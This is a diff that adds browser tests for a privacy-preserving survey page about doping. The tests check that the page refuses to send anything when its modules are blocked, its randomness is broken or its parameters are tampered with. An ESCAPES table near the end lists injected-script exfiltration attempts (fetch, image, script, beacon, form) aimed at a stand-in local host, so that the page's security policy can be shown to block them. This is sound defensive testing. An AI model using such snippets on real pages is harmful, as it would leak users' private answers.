@@ -1,0 +1,185 @@
+"""Whatever fails, the page can send nothing, and says why."""
+
+from collections.abc import Iterator
+
+import pytest
+from selenium import webdriver
+from selenium.webdriver.common.by import By
+
+from tests.browser.chromium import chromium as started
+from tests.browser.chromium import requests, run_before_every_page
+from tests.browser.page import Page
+from tests.browser.serving import Served
+
+CLICK_EVERYTHING = """
+for (const element of document.querySelectorAll("input, button, summary, label")) element.click();
+for (const form of document.forms) { try { form.requestSubmit(); } catch {} }
+"""
+
+
+@pytest.fixture
+def fresh() -> Iterator[webdriver.Chrome]:
+    """Start a browser for this test alone, which it may break."""
+    with started() as driver:
+        yield driver
+
+
+def check_sends_nothing(driver: webdriver.Chrome) -> None:
+    """Click everything there is, and see that no request carries anything."""
+    driver.execute_script(CLICK_EVERYTHING)
+    made = requests(driver)
+    assert {request.method for request in made} <= {"GET"}
+    assert all("?" not in request.url for request in made)
+    assert not driver.find_elements(By.CSS_SELECTOR, "main input, main button, main form")
+
+
+def test_without_javascript(served: Served) -> None:
+    with started(javascript=False) as driver:
+        driver.get(served.links[1])
+        page = Page(driver, served.links[1])
+        page.wait(lambda: "This page has not started" in page.text())  # shown after a moment
+        assert "JavaScript is switched off in your browser" in page.text()
+        assert "nothing can be sent" in page.text()
+        assert not driver.find_elements(By.CSS_SELECTOR, "input, button, form")
+        assert {request.method for request in requests(driver)} == {"GET"}
+
+
+@pytest.mark.parametrize("module", ["main", "page", "channel", "report", "submission"])
+def test_a_blocked_module(served: Served, fresh: webdriver.Chrome, module: str) -> None:
+    fresh.execute_cdp_cmd("Network.enable", {})
+    fresh.execute_cdp_cmd("Network.setBlockedURLs", {"urls": [f"*/client/{module}.js"]})
+    fresh.get(served.links[1])
+    page = Page(fresh, served.links[1])
+    page.wait(lambda: "This page has not started" in page.text())  # shown after a moment
+    assert "nothing can be sent" in page.text()
+    check_sends_nothing(fresh)
+
+
+BROKEN_RANDOMNESS = {
+    "throws": 'crypto.getRandomValues = () => { throw new Error("no entropy here"); };',
+    "fills nothing": "crypto.getRandomValues = (words) => words;",
+    "is missing": "Object.defineProperty(window, 'crypto', { value: undefined });",
+}
+
+
+@pytest.mark.parametrize("how", BROKEN_RANDOMNESS)
+def test_randomness_that(served: Served, fresh: webdriver.Chrome, how: str) -> None:
+    run_before_every_page(fresh, BROKEN_RANDOMNESS[how])
+    page = Page(fresh, served.links[1])
+    page.open()
+    assert "This page will not ask you anything" in page.text()
+    reason = {"throws": "no entropy here", "fills nothing": "randomness of this browser is stuck"}
+    assert reason.get(how, "The reason:") in page.text()
+    check_sends_nothing(fresh)
+
+
+LIES = {
+    "weights that reveal more": "doc.items[0].weights[0] = [2**32 - 2, 1, 1]",
+    "a label that says less": "doc.items[0].epsilon = 0.01",
+    "a total that says less": "doc.epsilon = 1",
+    "a row that does not sum up": "doc.items[0].weights[0][0] += 1",
+}
+
+
+@pytest.mark.parametrize("lie", LIES)
+def test_a_promise_that_does_not_hold(served: Served, fresh: webdriver.Chrome, lie: str) -> None:
+    run_before_every_page(
+        fresh,
+        f"""
+        const json = Response.prototype.json;
+        Response.prototype.json = async function () {{
+          const doc = await json.call(this);
+          {LIES[lie]};
+          return doc;
+        }};
+        """,
+    )
+    page = Page(fresh, served.links[1])
+    page.open()
+    assert "This page will not ask you anything" in page.text()
+    assert "reveal more than" in page.text() or "does not sum to 2^32" in page.text()
+    check_sends_nothing(fresh)
+
+
+def test_questions_that_cannot_be_fetched(served: Served, fresh: webdriver.Chrome) -> None:
+    fresh.execute_cdp_cmd("Network.enable", {})
+    fresh.execute_cdp_cmd("Network.setBlockedURLs", {"urls": ["*/survey.json"]})
+    page = Page(fresh, served.links[1])
+    page.open()
+    assert "This page will not ask you anything" in page.text()
+    check_sends_nothing(fresh)
+
+
+def test_chance_comes_from_the_cryptographic_source_alone(
+    served: Served, fresh: webdriver.Chrome
+) -> None:
+    run_before_every_page(
+        fresh,
+        """
+        Math.random = () => { throw new Error("not cryptographic"); };
+        crypto.getRandomValues = (words) => words.map((_, place) => words[place] = 3_000_000_000);
+        """,
+    )
+    page = Page(fresh, served.links[0])
+    page.open()
+    page.answer(["doped-0", "substances-3", "coach_knew-0", "age-0"])
+    survey = served.surveys[0]
+    expected = [item.channel.sample(0, 3_000_000_000) for item in survey.items]
+    assert bytes.fromhex(page.preview()["answers"]) == bytes(expected)
+    assert page.preview()["id"] == f"{3_000_000_000:08x}" * 4
+
+
+ESCAPES = {
+    "fetch": "await fetch('http://127.0.0.1:9/?answer=yes')",
+    "image": """await new Promise((resolve, reject) => {
+        const image = new Image();
+        image.onload = resolve;
+        image.onerror = reject;
+        image.src = "http://127.0.0.1:9/?answer=yes";
+    })""",
+    "script": """await new Promise((resolve, reject) => {
+        const script = document.createElement("script");
+        script.onload = resolve;
+        script.onerror = reject;
+        script.src = "http://127.0.0.1:9/answer.js";
+        document.head.append(script);
+    })""",
+    "markup": "document.body.innerHTML = '<img src=x>'",
+    "text as code": """
+        setTimeout("window.escaped = true", 0);
+        await new Promise((resolve) => setTimeout(resolve, 500));
+        if (!window.escaped) throw new Error();""",
+    "beacon": """await new Promise((resolve, reject) => {
+        addEventListener("securitypolicyviolation", reject);
+        navigator.sendBeacon("http://127.0.0.1:9/", "answer");
+        setTimeout(resolve, 1000);
+    })""",
+    "form": """await new Promise((resolve, reject) => {
+        addEventListener("securitypolicyviolation", reject);
+        const form = document.createElement("form");
+        form.action = "http://127.0.0.1:9/";
+        document.body.append(form);
+        form.submit();
+        setTimeout(resolve, 1000);
+    })""",
+}
+
+
+@pytest.mark.parametrize("way", ESCAPES)
+def test_a_script_that_got_in_could_not_carry_an_answer_out(kinds: Page, way: str) -> None:
+    escaped = kinds.driver.execute_async_script(
+        f"""
+        const done = arguments[0];
+        (async () => {{ {ESCAPES[way]} }})().then(() => done("escaped"), () => done("blocked"));
+        """
+    )
+    assert escaped == "blocked"
+
+
+def test_no_input_has_a_name_and_every_one_is_forgotten(kinds: Page) -> None:
+    inputs = kinds.all("main input")
+    assert len(inputs) > 10
+    for element in inputs:
+        assert element.get_dom_attribute("name") is None
+        assert element.get_dom_attribute("autocomplete") == "off"
+    assert kinds.one("main form").get_dom_attribute("action") is None
